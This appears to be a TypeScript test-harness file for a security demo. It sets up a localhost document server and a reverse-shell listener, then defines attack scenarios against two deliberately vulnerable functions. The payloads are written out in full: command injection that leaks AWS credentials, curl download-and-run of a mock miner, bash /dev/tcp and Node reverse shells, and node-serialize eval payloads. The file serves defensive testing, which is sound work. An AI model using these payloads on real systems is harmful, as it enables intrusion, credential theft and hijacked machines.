// The demo's world: a 127.0.0.1 document server (which also serves an
// attacker's "miner" and counts who phones home), a listener waiting for
// reverse shells, and the requests (legitimate ones and attacks) sent to the
// two vulnerable functions of examples/demo/app.ts. Used by `npm run demo`
// and by the end-to-end tests, which assert on the same effects.
import * as http from 'node:http';
import * as net from 'node:net';
import type { AddressInfo } from 'node:net';

export const REPORT_TEXT = 'Quarterly report: revenue up 4%, costs flat.';
// What the marker the reverse-shell listener asks a shell to print looks like: 6*7 only a shell computes.
const SHELL_PROBE = 'echo PWNED-$((6*7))\nexit\n';
const SHELL_PROOF = 'PWNED-42';

/** An HTTP server on 127.0.0.1 that records every request path. */
export class DocumentServer {
  public readonly hits: string[] = [];
  private readonly server: http.Server;

  constructor() {
    this.server = http.createServer((req, res) => {
      this.hits.push(req.url ?? '');
      if (req.url === '/report.doc') {
        res.end(`${REPORT_TEXT}\n`);
      } else if (req.url === '/miner') {
        // The attacker's payload: phones home when it runs.
        res.end(`#!/bin/sh\ncurl -s http://127.0.0.1:${this.port}/mined >/dev/null\necho mining\n`);
      } else {
        res.end('ok\n');
      }
    });
  }

  get port(): number {
    return (this.server.address() as AddressInfo).port;
  }

  url(path: string): string {
    return `http://127.0.0.1:${this.port}${path}`;
  }

  async start(): Promise<this> {
    await new Promise<void>((resolve) => this.server.listen(0, '127.0.0.1', resolve));
    return this;
  }

  reset(): void {
    this.hits.length = 0;
  }

  /** True when a downloaded miner ran and phoned home. */
  minerRan(): boolean {
    return this.hits.includes('/mined');
  }

  async stop(): Promise<void> {
    this.server.closeAllConnections();
    await new Promise<void>((resolve) => this.server.close(() => resolve()));
  }
}

/** A TCP listener on 127.0.0.1 that, like an attacker, types into whatever connects. */
export class ShellListener {
  public connections = 0;
  private received = '';
  private readonly server: net.Server;

  constructor() {
    this.server = net.createServer((socket) => {
      this.connections++;
      socket.setTimeout(3000, () => socket.destroy());
      socket.on('data', (d) => { this.received += d.toString('utf8'); });
      socket.on('error', () => undefined);
      socket.write(SHELL_PROBE);
    });
  }

  get port(): number {
    return (this.server.address() as AddressInfo).port;
  }

  async start(): Promise<this> {
    await new Promise<void>((resolve) => this.server.listen(0, '127.0.0.1', resolve));
    return this;
  }

  /** True once a shell on the other end ran the probe. Waits up to `ms`. */
  async gotShell(ms = 2000): Promise<boolean> {
    const until = Date.now() + ms;
    while (!this.received.includes(SHELL_PROOF) && Date.now() < until) await new Promise((r) => setTimeout(r, 50));
    return this.received.includes(SHELL_PROOF);
  }

  reset(): void {
    this.received = '';
    this.connections = 0;
  }

  async stop(): Promise<void> {
    await new Promise<void>((resolve) => this.server.close(() => resolve()));
  }
}

export interface Lab {
  readonly docs: DocumentServer;
  readonly listener: ShellListener;
}

export type FunctionName = 'DocConverter' | 'Preferences';

/** What a request did, judged by its effect, not by what the enforcer says. */
export interface Outcome {
  readonly compromised: boolean;
  readonly summary: string;
}

export interface Scenario {
  readonly fn: FunctionName;
  readonly name: string;
  readonly attack: boolean;
  event(lab: Lab): unknown;
  judge(lab: Lab, response: { statusCode?: number; body?: string } | undefined): Promise<Outcome>;
}

const convert = (url: string) => ({ queryStringParameters: { document_url: url } });
const evalBody = (js: string) => ({ body: JSON.stringify({ theme: `_$$ND_FUNC$$_function(){ ${js} }()` }) });
const failed = (r: { statusCode?: number; body?: string } | undefined) => `${r?.statusCode ?? '-'} ${(r?.body ?? '').slice(0, 60)}`;

async function minerJudge(lab: Lab): Promise<Outcome> {
  // The miner phones home asynchronously; give it a moment.
  for (let i = 0; i < 20 && !lab.docs.minerRan(); i++) await new Promise((r) => setTimeout(r, 50));
  if (lab.docs.minerRan()) return { compromised: true, summary: 'miner downloaded and ran (it phoned home)' };
  const downloaded = lab.docs.hits.includes('/miner');
  return { compromised: false, summary: downloaded ? 'miner downloaded, never ran' : 'nothing downloaded, nothing ran' };
}

async function shellJudge(lab: Lab): Promise<Outcome> {
  if (await lab.listener.gotShell()) return { compromised: true, summary: 'reverse shell: attacker ran commands' };
  return { compromised: false, summary: lab.listener.connections > 0 ? 'socket opened, no shell behind it' : 'no connection' };
}

export const SCENARIOS: readonly Scenario[] = [
  {
    fn: 'DocConverter',
    name: 'convert a document (legitimate)',
    attack: false,
    event: (lab) => convert(lab.docs.url('/report.doc')),
    judge: async (_lab, r) => (r?.statusCode === 200 && r.body?.includes(REPORT_TEXT)
      ? { compromised: false, summary: `200 "${r.body.trim().slice(0, 40)}..."` }
      : { compromised: false, summary: `failed: ${failed(r)}` }),
  },
  {
    fn: 'DocConverter',
    name: 'command injection: `; env #`',
    attack: true,
    event: (lab) => convert(`${lab.docs.url('/report.doc')}; env #`),
    judge: async (_lab, r) => (r?.body?.includes('AWS_SECRET_ACCESS_KEY=')
      ? { compromised: true, summary: 'leaked the function\'s AWS credentials' }
      : { compromised: false, summary: `no leak (${failed(r)})` }),
  },
  {
    fn: 'DocConverter',
    name: 'download a miner to /tmp and run it',
    attack: true,
    event: (lab) => convert(`${lab.docs.url('/miner')} -o /tmp/miner; chmod +x /tmp/miner; /tmp/miner #`),
    judge: (lab) => minerJudge(lab),
  },
  {
    fn: 'DocConverter',
    name: 'reverse shell to a listener',
    attack: true,
    event: (lab) => convert(`${lab.docs.url('/report.doc')}; bash -c 'bash -i >& /dev/tcp/127.0.0.1/${lab.listener.port} 0>&1' #`),
    judge: (lab) => shellJudge(lab),
  },
  {
    fn: 'Preferences',
    name: 'read preferences (legitimate)',
    attack: false,
    event: () => ({ body: JSON.stringify({ theme: 'dark' }) }),
    judge: async (_lab, r) => (r?.statusCode === 200 && r.body === '{"theme":"dark","language":"en"}'
      ? { compromised: false, summary: `200 ${r.body}` }
      : { compromised: false, summary: `failed: ${failed(r)}` }),
  },
  {
    fn: 'Preferences',
    name: 'eval: download a miner to /tmp and run it',
    attack: true,
    event: (lab) => evalBody(`require('child_process').execSync('curl -s ${lab.docs.url('/miner')} -o /tmp/miner && chmod +x /tmp/miner && /tmp/miner')`),
    judge: (lab) => minerJudge(lab),
  },
  {
    fn: 'Preferences',
    name: 'eval: write a script to /tmp and run it',
    attack: true,
    event: (lab) => evalBody(`const fs = require('fs'); fs.writeFileSync('/tmp/m', '#!/bin/sh\\ncurl -s ${lab.docs.url('/mined')}\\n', { mode: 0o755 }); require('child_process').execFileSync('/tmp/m')`),
    judge: (lab) => minerJudge(lab),
  },
  {
    fn: 'Preferences',
    name: 'eval: reverse shell to a listener',
    attack: true,
    event: (lab) => evalBody(
      `const s = require('net').connect(${lab.listener.port}, '127.0.0.1', () => { const sh = require('child_process').spawn('/bin/sh', ['-i']); `
      + 'sh.on(\'error\', () => s.destroy()); s.on(\'error\', () => {}); s.pipe(sh.stdin); sh.stdout.pipe(s, { end: false }); sh.stderr.pipe(s, { end: false }); })',
    ),
    judge: (lab) => shellJudge(lab),
  },
];
